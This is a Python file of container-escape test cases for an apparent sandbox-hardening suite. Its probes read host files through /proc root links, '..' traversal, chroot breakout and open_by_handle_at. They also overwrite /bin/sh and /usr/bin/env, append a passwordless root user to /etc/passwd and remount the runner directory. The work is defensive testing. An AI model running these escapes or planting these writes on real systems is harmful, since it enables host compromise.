"""Ways to the host's files by their names: absolute, by links of proc, by handles, past the root."""

import msgspec

from opensafe.proof.escape.ground import Row, attempts, bare, weakened
from opensafe.proof.escape.probe import Boundary, Severity
from opensafe.proof.escape.trial import Trial
from opensafe.proof.escape.weakening import IN_REACH, IN_SIGHT, Weakening

from . import scenes

_READ = Row(
    scene=scenes.canary,
    command="cat {canary}; ls -la {directory}",
    program="""
attempt("the canary", read, CANARY)
attempt("its directory", os.listdir, DIRECTORY)
""",
)
_LINKS = Row(
    scene=scenes.canary,
    command="cat /proc/1/root{canary} /proc/self/root{canary} /proc/self/cwd/../../..{canary} /..{canary}",
    program="""
os.chdir("/tmp")
up = "/.." * 24
ways = ["/..", up, "/proc/self/root", "/proc/self/cwd" + up, "/proc/thread-self/root", "/dev/fd/0" + up]
ways += ["/proc/%d/%s%s" % (pid, link, more) for pid in pids() for link in ("root", "cwd") for more in ("", up)]
ways += ["/proc/self/task/%s/root" % name for name in names("/proc/self/task")]
for way in ways:
    attempt(way, read, way + CANARY)
def out():
    for _ in range(24):
        os.chdir("..")
    return read("." + CANARY)
attempt("chdir", out)
def jail():
    os.mkdir("/tmp/jail")
    top = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(top)
    return out()
attempt("chroot", jail)
""",
)
_WRITE = Row(
    scene=scenes.canary,
    command="echo planted > {directory}/{name}; echo planted > /workspace/../../..{directory}/{name}",
    program="""
os.chdir("/workspace" if os.path.isdir("/workspace") else "/tmp")
def make(path):
    return write(path, "planted")
for way in ("", "../" * 24, "/proc/self/root", "/proc/1/root", "/workspace/.."):
    attempt("write " + way, make, way + DIRECTORY + "/" + NAME)
attempt("over it", make, CANARY)
attempt("mkdir", os.mkdir, DIRECTORY + "/" + NAME + ".d")
attempt("link", os.link, "/etc/hostname", DIRECTORY + "/" + NAME + ".l")
attempt("rename", os.rename, CANARY, CANARY + ".moved")
attempt("remove", os.unlink, CANARY)
""",
)
_ROOT = Row(
    scene=scenes.root,
    command="cp /bin/true /usr/bin/{name}; cp /bin/true /usr/bin/env; cp /bin/true /.opensafe/{name}",
    program="""
def make(path):
    return write(path, "planted")
def replace(path):
    make(path + "." + NAME)
    os.rename(path + "." + NAME, path)
def remount():
    return call("mount", None, "/.opensafe", None, 32 | 4096, None)
attempt("new tool", make, "/usr/bin/" + NAME)
attempt("over a tool", write, "/usr/bin/env", "planted", os.O_WRONLY)
attempt("another tool", replace, "/usr/bin/env")
attempt("another shell", replace, "/bin/sh")
attempt("users", write, "/etc/passwd", "evil::0:0::/:/bin/sh\\n", os.O_WRONLY | os.O_APPEND)
attempt("mode", os.chmod, "/usr/bin/env", 0o6755)
attempt("runner", make, "/.opensafe/" + NAME)
attempt("remount", remount)
attempt("runner then", make, "/.opensafe/" + NAME)
""",
)
_HANDLE = Row(
    scene=scenes.canary,
    command='python3 -c "import ctypes; print(ctypes.CDLL(None).open_by_handle_at(3, 0, 0))"; cat {canary}',
    program="""
OPEN_BY_HANDLE_AT, NAME_TO_HANDLE_AT = 304, 303
def handle(kind, *words):
    data = struct.pack("<%dI" % len(words), *words)
    return ctypes.create_string_buffer(struct.pack("<Ii", len(data), kind) + data)
def walk_from(mount, kind, words):
    at = os.open(mount, os.O_RDONLY)
    top = call("syscall", OPEN_BY_HANDLE_AT, at, handle(kind, *words), os.O_RDONLY)
    file = os.open(CANARY.lstrip("/"), os.O_RDONLY, dir_fd=top)
    return os.read(file, 100)
def own(mount):
    found, place = handle(0, *[0] * 32), ctypes.c_int()
    call("syscall", NAME_TO_HANDLE_AT, -100, mount.encode(), found, ctypes.byref(place), 0)
    at = os.open(mount, os.O_RDONLY)
    return os.listdir(call("syscall", OPEN_BY_HANDLE_AT, at, found, os.O_RDONLY))
for mount in ("/", "/etc", "/.opensafe", "/workspace"):
    for inode in (2, 128, 64, 5):
        attempt("inode %d from %s" % (inode, mount), walk_from, mount, 1, (inode, 0))
attempt("a handle of its own", own, "/etc")
""",
)


def _writable_root(scene: object) -> Weakening:
    assert isinstance(scene, scenes.Root)  # noqa: S101 - it is this row's
    return Weakening(root=scene.tree, root_writable=True)


PATHS = (
    Trial(
        id="FS-01", boundary=Boundary.FILESYSTEM, severity=Severity.HOST_LEAK,
        title="read a file of the host by its absolute path",
        attacks=("T1083", "T1005"), benchmark=("hostpath_etc",),
        breach="the canary's nonce in the output", control="flag: the canary's directory is mounted in its place",
        attempts=attempts(_READ), weak=weakened(_READ, lambda _: IN_SIGHT),
    ),
    Trial(
        id="FS-02", boundary=Boundary.FILESYSTEM, severity=Severity.HOST_LEAK,
        title="the same through links of /proc, through .. from the root, and out of a chroot",
        attacks=("T1083", "T1611"), benchmark=("k8s_runc",),
        breach="the canary's nonce in the output", control="flag: the canary's directory is mounted in its place",
        attempts=attempts(_LINKS), weak=weakened(_LINKS, lambda _: IN_SIGHT),
    ),
    Trial(
        id="FS-03", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="make, change and remove files of the host by absolute paths and ..",
        attacks=("T1565.001", "T1611"), benchmark=("hostpath_etc",),
        breach="the canary's directory is another than before", control="flag: it is mounted, and writable",
        attempts=attempts(_WRITE), weak=weakened(_WRITE, lambda _: IN_REACH),
    ),
    Trial(
        id="FS-04", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="write to the root file system, replace its programs and the guest runner",
        attacks=("T1554", "T1565.001"), benchmark=("runc_overwrite",),
        breach="the image's tree or the guest's tools differ on the host",
        control="flag: root.readonly=false and no overlay, on a copy of the image, as root of the guest",
        attempts=attempts(_ROOT),
        weak=weakened(msgspec.structs.replace(_ROOT, scene=scenes.spare_root), _writable_root, root=True),
    ),
    Trial(
        id="FS-17", boundary=Boundary.FILESYSTEM, severity=Severity.HOST_LEAK,
        title="open the host's root by a file handle (open_by_handle_at) and walk to a file",
        attacks=("T1611", "T1068"), benchmark=("dac_read_search",),
        breach="the canary's nonce in the output",
        control="bare: the same in a chroot into the image, with CAP_DAC_READ_SEARCH",
        attempts=attempts(_HANDLE), weak=bare(_HANDLE, "chroot", str(scenes.image_root())),
    ),
)  # fmt: skip
